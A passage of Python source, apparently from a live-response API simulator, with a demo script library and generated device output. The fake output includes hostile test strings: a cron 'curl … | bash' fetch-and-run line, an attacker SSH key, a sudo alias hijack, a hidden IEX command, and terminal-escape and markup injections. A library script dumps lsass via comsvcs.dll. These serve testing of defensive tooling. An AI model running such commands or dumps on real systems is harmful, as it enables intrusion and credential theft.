"""The demo live-response library, what each script "does" on a device, and device file contents.

Script behaviour is split in two: :func:`plan_script` decides cheaply (at the moment the command runs)
the duration, exit code, whether it hangs or fails, and which files it creates; the output text is
rendered lazily (:meth:`ScriptPlan.render`) when the result is downloaded, from the same seed, so a
multi-megabyte output costs nothing until someone fetches it.

Uploaded scripts may steer the simulator with directive lines anywhere in the file, e.g.::

    # sim: exit_code=3 duration=30 stderr="boom" output_bytes=200000 creates=C:\\Temp\\x.zip
    # sim: hang            (runs until the RunScript timeout)
    # sim: fail="Script crashed"   (the command itself fails)

GetFile rule (see :func:`resolve_file`): a path exists when it is a known system file of the device's
OS family, a file a script or PutFile created on that device, a bench file (``C:\\bench\\<N>MiB.bin``,
``/bench/<N>GiB.bin``...), or any other file path under the usual roots (Windows: ``C:\\Users``,
``C:\\Windows``, ``C:\\ProgramData``, ``C:\\Program Files*``, ``C:\\Temp``, ``C:\\inetpub``; POSIX:
``/etc /var /home /Users /tmp /opt /Library /usr /root``) whose name has an extension (POSIX: or sits in
``/etc`` or ``/var/log``) -- except archives and dumps (``.zip .7z .rar .dmp .gz .tgz .tar .cab``),
which exist only once something created them. Any path with a component named ``missing`` (or
``nonexistent``) never exists. Paths of the wrong style for the OS never exist.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import random
import re
import shlex
import zipfile
from dataclasses import dataclass, field
from typing import Callable, Iterator

from .tenant import MachineRec

__all__ = ["LibraryItem", "demo_library", "ScriptPlan", "plan_script", "FileRecipe", "resolve_file",
           "file_bytes", "gzip_stream", "TRANSCRIPT_DIR"]

TRANSCRIPT_DIR = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp\\PSScriptOutputs\\"
DOWNLOADS_DIR_WIN = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\"
DOWNLOADS_DIR_POSIX = "/var/opt/microsoft/mdatp/live_response/downloads/"
ESC = "\x1b"


@dataclass
class LibraryItem:
    file_name: str
    content: bytes
    description: str | None = None
    parameters_description: str | None = None
    has_parameters: bool = False
    created_by: str = "secops-admin@contoso.example"
    creation_time: float = 0.0
    last_updated_time: float = 0.0

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.content).hexdigest()

    def to_wire(self, iso: Callable[[float], str | None]) -> dict:
        d = {
            "fileName": self.file_name,
            "sha256": self.sha256,
            "description": self.description,
            "creationTime": iso(self.creation_time),
            "lastUpdatedTime": iso(self.last_updated_time),
            "createdBy": self.created_by,
            "hasParameters": self.has_parameters,
        }
        if self.has_parameters or self.parameters_description:
            d["parametersDescription"] = self.parameters_description or ""
        return d


# ---------------------------------------------------------------- demo library

_DEMO: list[tuple[str, str, str | None, str]] = [
    # (name, description, parametersDescription or None, source)
    ("Get-Processes.ps1", "List running processes with PID, parent PID, path, signer and command line.",
     "-Name <wildcard> : only processes whose name matches (optional)",
     "param([string]$Name = '*')\nGet-CimInstance Win32_Process | Where-Object Name -like $Name |\n"
     "  Select-Object ProcessId, ParentProcessId, Name, ExecutablePath, CommandLine | Format-Table -AutoSize | Out-String -Width 4096\n"),
    ("Get-NetConnections.ps1", "TCP connections and UDP endpoints with the owning process.", None,
     "Get-NetTCPConnection | Select-Object LocalAddress, LocalPort, RemoteAddress, RemotePort, State, OwningProcess | Format-Table -AutoSize\n"),
    ("Get-Autoruns.ps1", "Persistence: Run keys, services, scheduled tasks, WMI subscriptions, startup folders.",
     "-IncludeMicrosoft : also list Microsoft-signed entries (optional)",
     "param([switch]$IncludeMicrosoft)\n# Run keys, services, tasks, WMI consumers\n"),
    ("Invoke-Triage.ps1", "Triage collection: event logs, prefetch, amcache, browser history, network state; writes a zip archive.",
     "-OutDir <folder> : where the archive goes (default C:\\Windows\\Temp); -Quick : skip event logs",
     "param([string]$OutDir = 'C:\\Windows\\Temp', [switch]$Quick)\n$zip = Join-Path $OutDir (\"triage-$env:COMPUTERNAME.zip\")\nCompress-Archive -Path $items -DestinationPath $zip\n"),
    ("minidump.ps1", "Write a full memory dump of one process with comsvcs.dll MiniDump.",
     "-ProcessName <name> : process to dump (required, e.g. lsass); -OutDir <folder> (default C:\\Windows\\Temp)",
     "param([Parameter(Mandatory)][string]$ProcessName, [string]$OutDir = 'C:\\Windows\\Temp')\n"
     "$p = Get-Process -Name $ProcessName -ErrorAction Stop\nrundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id \"$OutDir\\$($ProcessName)_$($p.Id).dmp\" full\n"),
    ("yara_scan.ps1", "Scan a folder with YARA rules (PutFile yara64.exe and the rules file first). Exit code 1 when something matched.",
     "-Rules <file> (default rules.yar) -Path <folder> (default C:\\Users)",
     "param([string]$Rules = 'rules.yar', [string]$Path = 'C:\\Users')\n& .\\yara64.exe -r $Rules $Path\nif ($LASTEXITCODE -eq 0 -and $matches) { exit 1 }\n"),
    ("Export-EventLogs.ps1", "Dump the last 24 h of Security, System and PowerShell events as text (large output).",
     "-Hours <n> : how far back (default 24)",
     "param([int]$Hours = 24)\nGet-WinEvent -FilterHashtable @{LogName='Security','System'; StartTime=(Get-Date).AddHours(-$Hours)} | Format-List\n"),
    ("Get-InstalledSoftware.ps1", "Installed programs from the uninstall registry keys (warnings for unreadable keys go to stderr).", None,
     "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName, DisplayVersion, Publisher\n"),
    ("Get-BitLockerStatus.ps1", "BitLocker volume status. Fails with exit code 5 on devices without BitLocker.", None,
     "manage-bde -status\nexit $LASTEXITCODE\n"),
    ("Watch-ProcessCreation.ps1", "Stream new process creations until stopped (never ends by itself: times out after 10 minutes).", None,
     "Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier ps\nwhile ($true) { Wait-Event -SourceIdentifier ps | Out-Host }\n"),
    ("ps_list.sh", "List processes (ps -eo) with user, PID, PPID, start time and full command line.",
     "[pattern] : only lines matching the pattern (optional)",
     "#!/bin/bash\nps -eo user,pid,ppid,lstart,args --sort=pid | grep -E \"${1:-.}\"\n"),
    ("netconns.sh", "Network connections with the owning process (ss -tunap or lsof on macOS).", None,
     "#!/bin/bash\nif command -v ss >/dev/null; then ss -tunap; else lsof -nP -i; fi\n"),
    ("persistence.sh", "Persistence: cron, systemd units, rc scripts, shell profiles, authorized_keys, launchd (macOS).", None,
     "#!/bin/bash\nfor f in /etc/crontab /etc/cron.d/* /var/spool/cron/*; do echo \"== $f\"; cat \"$f\"; done\n"),
    ("triage.sh", "Triage collection for Linux/macOS: logs, shell history, network state; writes /tmp/triage-<host>.tar.gz.",
     "-o <dir> : where the archive goes (default /tmp)",
     "#!/bin/bash\nOUT=${2:-/tmp}\ntar czf \"$OUT/triage-$(hostname).tar.gz\" /var/log /etc/passwd /root/.bash_history 2>&1\n"),
    ("yara_scan.sh", "Scan a directory with YARA (PutFile the rules first). Exit code 1 when something matched.",
     "<rules file> <dir> (defaults: rules.yar /home)",
     "#!/bin/bash\nyara -r \"${1:-rules.yar}\" \"${2:-/home}\"\n"),
    ("tail_auth.sh", "Follow /var/log/auth.log (never ends by itself: times out after 10 minutes).", None,
     "#!/bin/bash\ntail -F /var/log/auth.log\n"),
    ("rules.yar", "YARA rules: common webshells, Cobalt Strike beacons, Mimikatz strings.", None,
     "rule Mimikatz_Strings { strings: $a = \"sekurlsa::logonpasswords\" condition: $a }\n"),
    ("yara64.exe", "YARA 4.5 scanner for Windows x64.", None, ""),
]


def demo_library(start: float) -> dict[str, LibraryItem]:
    out: dict[str, LibraryItem] = {}
    for i, (name, desc, pdesc, src) in enumerate(_DEMO):
        content = src.encode() if src else (b"MZ\x90\x00" + hashlib.sha256(name.encode()).digest() * 2048)
        t0 = start - 86400 * (40 - i)
        out[name] = LibraryItem(name, content, desc, pdesc, pdesc is not None, creation_time=t0,
                                last_updated_time=t0 + 3600 * (i % 5))
    return out


# ---------------------------------------------------------------- script plans


@dataclass
class ScriptPlan:
    """What one RunScript does. ``render()`` produces (stdout, stderr) on demand."""

    script_name: str
    duration_s: float  # service seconds
    exit_code: int = 0
    hang: bool = False
    fail: str | None = None  # the command itself fails with this error
    creates: dict[str, tuple] = field(default_factory=dict)  # path -> file recipe
    render: Callable[[], tuple[str, str]] = lambda: ("", "")


def _rng(*parts: object) -> random.Random:
    return random.Random(hashlib.sha256("|".join(map(str, parts)).encode()).digest())


def _host(m: MachineRec) -> str:
    return m.name.split(".")[0].upper()


def _transcript(m: MachineRec, rng: random.Random, when: str, body: str) -> str:
    guid = "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                          rng.getrandbits(16), rng.getrandbits(48))
    path = f"{TRANSCRIPT_DIR}transcript_{guid}.txt"
    build = m.wire.get("osBuild") or 19045
    banner = (
        "**********************\n"
        "Windows PowerShell transcript start\n"
        f"Start time: {when}\n"
        "Username: NT AUTHORITY\\SYSTEM\n"
        "RunAs User: NT AUTHORITY\\SYSTEM\n"
        "Configuration Name: \n"
        f"Machine: {_host(m)} (Microsoft Windows NT 10.0.{build}.0)\n"
        "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy AllSigned "
        "-NoProfile -NonInteractive -File C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\"
        "Downloads\\script.ps1\n"
        f"Process ID: {rng.randint(1000, 30000)}\n"
        "PSVersion: 5.1.19041.4522\n"
        "**********************\n"
        f"Transcript started, output file is {path}\n"
    )
    return banner + body


_WIN_PROCS = ["System", "smss.exe", "csrss.exe", "wininit.exe", "services.exe", "lsass.exe", "svchost.exe", "svchost.exe",
              "svchost.exe", "MsMpEng.exe", "MsSense.exe", "SenseIR.exe", "explorer.exe", "RuntimeBroker.exe",
              "OneDrive.exe", "Teams.exe", "msedge.exe", "msedge.exe", "outlook.exe", "powershell.exe", "conhost.exe",
              "spoolsv.exe", "SearchIndexer.exe", "dllhost.exe", "taskhostw.exe", "sihost.exe", "ctfmon.exe",
              "winlogon.exe", "dwm.exe", "WmiPrvSE.exe"]
_NIX_PROCS = ["/sbin/init", "[kthreadd]", "/lib/systemd/systemd-journald", "/usr/sbin/sshd -D", "/usr/sbin/cron -f",
              "/opt/microsoft/mdatp/sbin/wdavdaemon", "/usr/bin/containerd", "/usr/sbin/rsyslogd -n", "nginx: worker process",
              "/usr/bin/python3 /opt/app/server.py", "-bash", "/usr/lib/postgresql/15/bin/postgres", "sleep 3600"]

# strings an attacker controls end up in output: keep the app honest
_NASTY = [
    f"C:\\Users\\Public\\upd.exe --title {ESC}]0;PWNED{chr(7)} --color {ESC}[31mRED{ESC}[0m",
    "C:\\Users\\Public\\[bold]notmalware[/bold].exe [/] [link=https://evil.example]click[/link]",
    "C:\\Users\\Public\\invoice\u202egpj.exe",
    f"powershell -w hidden -enc SQBFAFgA {ESC}[2J{ESC}[H cleared?",
]


def _proc_table(m: MachineRec, rng: random.Random, pattern: str | None) -> str:
    lines = []
    if m.family == "windows":
        lines.append(f"{'ProcessId':>9} {'ParentProcessId':>15} {'Name':<24} CommandLine")
        lines.append(f"{'-' * 9:>9} {'-' * 15:>15} {'-' * 24:<24} -----------")
        pid = 4
        names = _WIN_PROCS * 4
        for i, n in enumerate(names):
            if pattern and not re.fullmatch(pattern.replace("*", ".*"), n, re.I):
                continue
            pid += rng.randint(4, 400)
            cmd = f"C:\\Windows\\System32\\{n}" if i % 3 else f"\"C:\\Program Files\\{n[:-4]}\\{n}\" --type=renderer"
            lines.append(f"{pid:>9} {rng.randint(4, pid):>15} {n:<24} {cmd}")
        if not pattern:
            for k, s in enumerate(_NASTY):
                lines.append(f"{pid + 100 + k:>9} {1234:>15} {'upd.exe':<24} {s}")
    else:
        lines.append("USER         PID    PPID STARTED                  COMMAND")
        pid = 1
        for n in _NIX_PROCS * 6:
            if pattern and pattern not in n:
                continue
            lines.append(f"{'root' if pid < 900 else 'www-data':<10} {pid:>6} {max(1, pid // 3):>7} Mon Jun  2 07:{pid % 60:02d}:11 2024  {n}")
            pid += rng.randint(1, 300)
        if not pattern:
            lines.append(f"nobody     {pid + 7:>6}       1 Mon Jun  2 07:59:59 2024  /tmp/.x/{ESC}[31mkworker{ESC}[0m [bold]x[/bold] \u202eexe.dab")
    return "\n".join(lines) + "\n"


def _net_table(m: MachineRec, rng: random.Random) -> str:
    lines = ["Proto LocalAddress:Port        RemoteAddress:Port          State        PID"]
    ip = m.wire.get("lastIpAddress") or "10.0.0.1"
    for i in range(60):
        rp = rng.choice([443, 443, 443, 80, 445, 3389, 22, 8080, 5985])
        remote = f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        state = rng.choice(["Established", "Established", "TimeWait", "CloseWait", "Listen"])
        lines.append(f"TCP   {ip}:{rng.randint(49152, 65535):<14} {remote}:{rp:<12} {state:<12} {rng.randint(300, 20000)}")
    lines.append(f"TCP   {ip}:4444           185.220.101.7:443           Established  6666   [red]beacon[/red]")
    return "\n".join(lines) + "\n"


def _autoruns(m: MachineRec, rng: random.Random) -> tuple[str, str]:
    out = ["Location                                                   Entry                 Image Path"]
    if m.family == "windows":
        entries = [("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "SecurityHealth", "C:\\Windows\\System32\\SecurityHealthSystray.exe"),
                   ("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive", "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background"),
                   ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "[bold]Updater[/bold]", _NASTY[0]),
                   ("Task Scheduler", "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "C:\\Windows\\System32\\usoclient.exe StartScan"),
                   ("Task Scheduler", f"\\{ESC}]0;totally legit{chr(7)}Sync", _NASTY[2]),
                   ("Services", "WinDefend", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe"),
                   ("Services", "svc[/]helper", "C:\\ProgramData\\svc\\helper.exe [link=file:///etc/passwd]x[/link]"),
                   ("WMI", "CommandLineEventConsumer: SCM Event Log Consumer", "powershell.exe -nop -w hidden -c IEX(...)")]
    else:
        entries = [("/etc/crontab", "17 * * * *", "root cd / && run-parts --report /etc/cron.hourly"),
                   ("/etc/cron.d/.hidden", "*/5 * * * *", f"curl -s http://198.51.100.9/x.sh | bash {ESC}[8m hidden {ESC}[0m"),
                   ("/etc/systemd/system", "dbus-helper.service", "/usr/local/bin/[bold]dbus[/bold]-helper"),
                   ("/root/.ssh/authorized_keys", "ssh-ed25519", "AAAAC3Nza... attacker@kali\u202e"),
                   ("~/.bashrc", "alias sudo", "alias sudo='sudo /tmp/.k; sudo'")]
        if m.family == "macos":
            entries.append(("/Library/LaunchDaemons", "com.apple.updater.plist", "/Users/Shared/.updater"))
    for loc, name, img in entries:
        out.append(f"{loc:<58} {name:<21} {img}")
    err = "WARNING: Access to HKU\\S-1-5-21-1004336348-1177238915-682003330-1001 was denied; skipped.\n"
    return "\n".join(out) + "\n", err


def _events(m: MachineRec, rng: random.Random, hours: int) -> str:
    ids = [(4624, "An account was successfully logged on."), (4625, "An account failed to log on."),
           (4688, "A new process has been created."), (7045, "A service was installed in the system."),
           (4104, "Creating Scriptblock text (1 of 1):"), (4672, "Special privileges assigned to new logon.")]
    parts = []
    n = 9000 + rng.randint(0, 3000)
    for i in range(n):
        eid, msg = ids[(i * 7 + rng.randint(0, 5)) % len(ids)]
        parts.append(
            f"TimeCreated  : 2024-06-02 {(i // 600) % 24:02d}:{(i // 10) % 60:02d}:{i % 60:02d}\n"
            f"ProviderName : Microsoft-Windows-Security-Auditing\nId           : {eid}\n"
            f"Message      : {msg}\n               Subject: CONTOSO\\svc_{i % 17:02d}  Logon ID: 0x{rng.getrandbits(24):X}\n"
            f"               Process: C:\\Windows\\System32\\svchost.exe  Source: 10.{i % 250}.{(i * 3) % 250}.{i % 200 + 1}\n\n")
    return "".join(parts)


def _split_args(args: str | None) -> list[str]:
    if not args:
        return []
    # posix=False keeps backslashes (C:\Windows\Temp); quotes around a value are then removed by hand
    try:
        parts = shlex.split(args, posix=False)
    except ValueError:
        parts = args.split()
    return [p[1:-1] if len(p) >= 2 and p[0] == p[-1] and p[0] in "\"'" else p for p in parts]


def _opt(argv: list[str], name: str, default: str | None = None) -> str | None:
    low = [a.lower() for a in argv]
    for flag in (f"-{name.lower()}", f"--{name.lower()}"):
        if flag in low:
            i = low.index(flag)
            if i + 1 < len(argv):
                return argv[i + 1]
    return default


def _flag(argv: list[str], name: str) -> bool:
    return f"-{name.lower()}" in [a.lower() for a in argv]


_DIRECTIVE = re.compile(rb"^\s*(?:#|//|REM|::)\s*sim:\s*(.*)$", re.M | re.I)


def _directives(content: bytes) -> dict[str, str]:
    out: dict[str, str] = {}
    for m in _DIRECTIVE.finditer(content):
        text = m.group(1).decode("utf-8", "replace")
        for tok in _split_args(text):
            k, _, v = tok.partition("=")
            out[k.strip().lower()] = v if _ else "1"
    return out


def script_platform(name: str) -> str:
    n = name.lower()
    if n.endswith(".ps1"):
        return "windows"
    if n.endswith((".sh", ".bash")):
        return "posix"
    if n.endswith(".py"):
        return "posix"
    return "unsupported"


def plan_script(item: LibraryItem, m: MachineRec, args: str | None, seed: object, when: str) -> ScriptPlan:
    """What running ``item`` with ``args`` on ``m`` does (deterministic for the same seed)."""
    name = item.file_name
    plat = script_platform(name)
    rng = _rng("plan", seed, m.id, name, args)
    if plat == "unsupported":
        return ScriptPlan(name, 2.0, fail=f"Script type of '{name}' is not supported. Supported: .ps1 (Windows), .sh (Linux, macOS).")
    if plat == "windows" and m.family != "windows":
        return ScriptPlan(name, 2.0, fail=f"PowerShell scripts cannot run on {m.wire.get('osPlatform')}; use a bash script.")
    if plat == "posix" and m.family == "windows":
        return ScriptPlan(name, 2.0, fail="Bash scripts cannot run on Windows; use a PowerShell script.")
    argv = _split_args(args)
    host = _host(m)
    win = m.family == "windows"

    def wrap(body: Callable[[], tuple[str, str]]) -> Callable[[], tuple[str, str]]:
        def render() -> tuple[str, str]:
            r = _rng("out", seed, m.id, name, args)
            out, err = body()
            if win:
                out = _transcript(m, r, when, out)
            return out, err
        return render

    lname = name.lower()
    if lname in ("get-processes.ps1", "ps_list.sh"):
        pattern = _opt(argv, "Name") if win else (argv[0] if argv else None)
        return ScriptPlan(name, 6 + rng.random() * 6, render=wrap(lambda: (_proc_table(m, _rng("p", seed, m.id), pattern), "")))
    if lname in ("get-netconnections.ps1", "netconns.sh"):
        return ScriptPlan(name, 5 + rng.random() * 4, render=wrap(lambda: (_net_table(m, _rng("n", seed, m.id)), "")))
    if lname in ("get-autoruns.ps1", "persistence.sh"):
        return ScriptPlan(name, 15 + rng.random() * 10, render=wrap(lambda: _autoruns(m, _rng("a", seed, m.id))))
    if lname == "invoke-triage.ps1":
        outdir = (_opt(argv, "OutDir") or "C:\\Windows\\Temp").rstrip("\\")
        path = f"{outdir}\\triage-{host}.zip"
        quick = _flag(argv, "Quick")
        body = (f"[+] Collecting event logs{' (skipped: -Quick)' if quick else ''}\n[+] Prefetch: 212 files\n"
                "[+] Amcache.hve, SRUM, browser history (Edge, Chrome)\n[+] netstat, arp, dns cache, logged-on users\n"
                f"[+] Archive written: {path}\n")
        # about a third of the machines have a locked hive: the script still succeeds but writes to stderr
        warn = "WARNING: C:\\Users\\svc_backup\\NTUSER.DAT is in use; copied with VSS.\n" if rng.random() < 0.34 else ""
        return ScriptPlan(name, (40 if quick else 90) + rng.random() * 20, creates={path: ("triage", m.id, path)},
                          render=wrap(lambda: (body, warn)))
    if lname == "triage.sh":
        outdir = (_opt(argv, "o") or "/tmp").rstrip("/") or "/tmp"
        path = f"{outdir}/triage-{m.name.split('.')[0]}.tar.gz"
        body = f"collecting /var/log ...\ncollecting shell history ...\nnetwork state ...\nwrote {path}\n"
        return ScriptPlan(name, 60 + rng.random() * 20, creates={path: ("triage", m.id, path)},
                          render=wrap(lambda: (body, "tar: Removing leading `/' from member names\n")))
    if lname == "minidump.ps1":
        proc = _opt(argv, "ProcessName") or (argv[0] if argv and not argv[0].startswith("-") else None)
        outdir = (_opt(argv, "OutDir") or "C:\\Windows\\Temp").rstrip("\\")
        if not proc:
            return ScriptPlan(name, 3.0, exit_code=2, render=wrap(lambda: (
                "", "minidump.ps1 : Cannot process command because of one or more missing mandatory parameters: ProcessName.\n"
                "    + CategoryInfo          : InvalidArgument: (:) [minidump.ps1], ParameterBindingException\n")))
        known = {p[:-4].lower() for p in _WIN_PROCS if p.endswith(".exe")}
        if proc.lower().removesuffix(".exe") not in known:
            return ScriptPlan(name, 3.0, exit_code=1, render=wrap(lambda: (
                "", f"Get-Process : Cannot find a process with the name \"{proc}\". Verify the process name and call the cmdlet again.\n")))
        pid = 600 + int(hashlib.sha1((m.id + proc.lower()).encode()).hexdigest()[:4], 16) % 9000
        path = f"{outdir}\\{proc.removesuffix('.exe')}_{pid}.dmp"
        body = f"Dumping {proc} (PID {pid}) ...\nDump written: {path} (8,388,608 bytes)\n"
        return ScriptPlan(name, 20 + rng.random() * 15, creates={path: ("dmp", m.id, path)}, render=wrap(lambda: (body, "")))
    if lname in ("yara_scan.ps1", "yara_scan.sh"):
        target = (_opt(argv, "Path") if win else (argv[1] if len(argv) > 1 else None)) or ("C:\\Users" if win else "/home")
        hit = rng.random() < 0.35
        sep = "\\" if win else "/"

        def body() -> tuple[str, str]:
            lines = [f"Scanning {target} with rules.yar ..."]
            if hit:
                lines.append(f"Mimikatz_Strings {target}{sep}Public{sep}Downloads{sep}m.exe")
                lines.append(f"CobaltStrike_Beacon {target}{sep}alice{sep}AppData{sep}Local{sep}Temp{sep}upd.dll")
            lines.append(f"{rng.randint(2000, 90000)} files scanned, {2 if hit else 0} matches")
            return "\n".join(lines) + "\n", "warning: skipping locked file pagefile.sys\n" if win else ""
        return ScriptPlan(name, 60 + rng.random() * 60, exit_code=1 if hit else 0, render=wrap(body))
    if lname == "export-eventlogs.ps1":
        hours = int(_opt(argv, "Hours") or 24) if (_opt(argv, "Hours") or "24").isdigit() else 24
        return ScriptPlan(name, 30 + rng.random() * 20, render=wrap(lambda: (_events(m, _rng("e", seed, m.id), hours), "")))
    if lname == "get-installedsoftware.ps1":
        def sw() -> tuple[str, str]:
            rows = ["DisplayName                                DisplayVersion   Publisher"]
            for i, (n, v, p) in enumerate([("Microsoft Edge", "125.0.2535.85", "Microsoft Corporation"), ("7-Zip 23.01 (x64)", "23.01", "Igor Pavlov"),
                                           ("Google Chrome", "125.0.6422.142", "Google LLC"), ("Notepad++ (64-bit x64)", "8.6.7", "Notepad++ Team"),
                                           ("AnyDesk", "8.0.10", "philandro Software GmbH"), ("Python 3.12.3 (64-bit)", "3.12.3", "Python Software Foundation"),
                                           ("[bold]Totally Legit VPN[/bold]", "1.0", f"{ESC}[5mEvil Corp{ESC}[0m")]):
                rows.append(f"{n:<42} {v:<16} {p}")
            return "\n".join(rows) + "\n", ("Get-ItemProperty : Requested registry access is not allowed.\n"
                                            "At C:\\ProgramData\\...\\Get-InstalledSoftware.ps1:1 char:1\n")
        return ScriptPlan(name, 8 + rng.random() * 4, render=wrap(sw))
    if lname == "get-bitlockerstatus.ps1":
        if m.server or rng.random() < 0.3:
            return ScriptPlan(name, 4.0, exit_code=5, render=wrap(lambda: (
                "", "ERROR: An error occurred (code 0x80070005):\nAccess is denied.\n")))
        return ScriptPlan(name, 4.0, render=wrap(lambda: ("Volume C: [OSDisk]\n    Conversion Status:    Fully Encrypted\n"
                                                          "    Protection Status:    Protection On\n", "")))
    if lname in ("watch-processcreation.ps1", "tail_auth.sh"):
        return ScriptPlan(name, 10 ** 9, hang=True, render=wrap(lambda: ("Waiting for events...\n", "")))
    # uploaded / unknown scripts: directives or a generic echo
    d = _directives(item.content)
    try:
        duration = float(d.get("duration", 3 + rng.random() * 3))
        exit_code = int(d.get("exit_code", 0))
        out_bytes = int(d.get("output_bytes", 0))
    except ValueError:
        duration, exit_code, out_bytes = 3.0, 0, 0
    creates = {}
    if d.get("creates"):
        for p in d["creates"].split(";"):
            if p:
                creates[p] = ("generic", m.id, p)

    def generic() -> tuple[str, str]:
        out = d.get("stdout", f"{name} ran on {host} with arguments: {args or '(none)'}\n")
        if out_bytes:
            line = f"{host} lorem ipsum output line for {name} 0123456789 abcdefghijklmnopqrstuvwxyz\n"
            out = out + line * (out_bytes // len(line) + 1)
            out = out[:out_bytes]
        return out, d.get("stderr", "")
    return ScriptPlan(name, duration, exit_code=exit_code, hang="hang" in d, fail=d.get("fail"), creates=creates,
                      render=wrap(generic))


# ---------------------------------------------------------------- device files

_ARCHIVE_EXT = (".zip", ".7z", ".rar", ".dmp", ".gz", ".tgz", ".tar", ".cab")
_WIN_ROOTS = ("c:\\users\\", "c:\\windows\\", "c:\\programdata\\", "c:\\program files\\", "c:\\program files (x86)\\",
              "c:\\temp\\", "c:\\inetpub\\")
_NIX_ROOTS = ("/etc/", "/var/", "/home/", "/users/", "/tmp/", "/opt/", "/library/", "/usr/", "/root/", "/private/")
_LOCKED = {"c:\\windows\\system32\\config\\sam", "c:\\windows\\system32\\config\\system",
           "c:\\windows\\system32\\config\\security", "c:\\pagefile.sys", "c:\\hiberfil.sys"}
_BENCH = re.compile(r"^(?:[a-z]:\\bench\\|/bench/)(\d+)(b|kib|mib|gib)\.bin$", re.I)
_KNOWN_WIN = {
    "c:\\windows\\system32\\drivers\\etc\\hosts": "hosts",
    "c:\\windows\\system32\\winevt\\logs\\security.evtx": "evtx",
    "c:\\windows\\system32\\winevt\\logs\\system.evtx": "evtx",
    "c:\\windows\\system32\\winevt\\logs\\microsoft-windows-powershell%4operational.evtx": "evtx",
    "c:\\windows\\system32\\notepad.exe": "pe",
    "c:\\windows\\system32\\cmd.exe": "pe",
    "c:\\windows\\temp\\mpcmdrun.log": "log",
    "c:\\windows\\appcompat\\programs\\amcache.hve": "bin",
}
_KNOWN_NIX = {"/etc/passwd": "passwd", "/etc/hosts": "etchosts", "/var/log/auth.log": "log", "/var/log/syslog": "log",
              "/etc/os-release": "osrelease", "/root/.bash_history": "history", "/var/log/system.log": "log"}


@dataclass(frozen=True)
class FileRecipe:
    kind: str
    size: int  # uncompressed size in bytes
    machine_id: str
    path: str
    data: bytes | None = None  # literal content (files put by PutFile)


def _is_windows_path(p: str) -> bool:
    return bool(re.match(r"^[A-Za-z]:\\", p)) or p.startswith("\\\\")


def _size_for(kind: str, key: str) -> int:
    h = int(hashlib.sha1(key.encode()).hexdigest()[:8], 16)
    return {"hosts": 824, "passwd": 1900, "etchosts": 220, "osrelease": 380, "history": 2400 + h % 4000,
            "evtx": 1_048_576 * (1 + h % 4), "pe": 180_000 + h % 400_000, "bin": 262_144 + h % 1_000_000,
            "log": 20_000 + h % 200_000, "text": 1_000 + h % 60_000, "dmp": 8 * 1_048_576,
            "triage": 0, "generic": 2_000 + h % 20_000}.get(kind, 4096)


def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
    """The recipe of ``path`` on device ``m``, or an error message (the command fails with it)."""
    win = m.family == "windows"
    if win != _is_windows_path(path) and not _BENCH.match(path):
        return f"The system cannot find the path specified: {path}"
    key = path.lower() if win else path
    parts = re.split(r"[\\/]+", key.lower())
    if any(p in ("missing", "nonexistent") for p in parts):
        return f"File not found: {path}"
    b = _BENCH.match(path)
    if b:
        mult = {"b": 1, "kib": 1024, "mib": 1024 ** 2, "gib": 1024 ** 3}[b.group(2).lower()]
        return FileRecipe("bench", int(b.group(1)) * mult, m.id, key)
    for p, recipe in m.created_files.items():
        if (p.lower() if win else p) == key:
            kind = recipe[0]
            if kind == "libfile":
                return FileRecipe(kind, len(recipe[1]), m.id, key, data=recipe[1])
            size = _size_for(kind, m.id + key)
            return FileRecipe(kind, size, m.id, key)
    if path.endswith(("\\", "/")) or key in ("c:\\windows", "c:\\users", "c:\\temp", "/etc", "/var/log", "/tmp", "/home"):
        return f"The path is a directory, not a file: {path}"
    if win and key in _LOCKED:
        return f"The process cannot access the file '{path}' because it is being used by another process."
    known = _KNOWN_WIN if win else _KNOWN_NIX
    if key in known:
        kind = known[key]
        return FileRecipe(kind, _size_for(kind, m.id + key), m.id, key)
    name = parts[-1] if parts else ""
    if name.endswith(_ARCHIVE_EXT):
        return f"File not found: {path}"
    roots = _WIN_ROOTS if win else _NIX_ROOTS
    low = key.lower()
    if not any(low.startswith(r) for r in roots):
        return f"File not found: {path}"
    has_ext = "." in name.strip(".")
    if not has_ext and not (not win and (low.startswith("/etc/") or low.startswith("/var/log/"))):
        return f"File not found: {path}"
    ext = name.rsplit(".", 1)[-1] if has_ext else ""
    kind = {"exe": "pe", "dll": "pe", "sys": "pe", "evtx": "evtx", "log": "log", "etl": "bin", "dat": "bin",
            "hve": "bin", "pf": "bin", "db": "bin"}.get(ext, "text")
    return FileRecipe(kind, _size_for(kind, m.id + key), m.id, key)


def file_bytes(r: FileRecipe, m: MachineRec | None = None) -> bytes:
    """The uncompressed content of a (non-bench) file, deterministic per machine and path."""
    if r.data is not None:
        return r.data
    rng = _rng("file", r.machine_id, r.path)
    host = (m.name.split(".")[0] if m else r.machine_id[:8])
    if r.kind == "hosts":
        return (b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n"
                b"#\r\n" + b"#      102.54.94.97     rhino.acme.com          # source server\r\n" * 10 +
                b"127.0.0.1       localhost\r\n::1             localhost\r\n10.66.6.6       login.microsoftonline.com  # ???\r\n")
    if r.kind == "passwd":
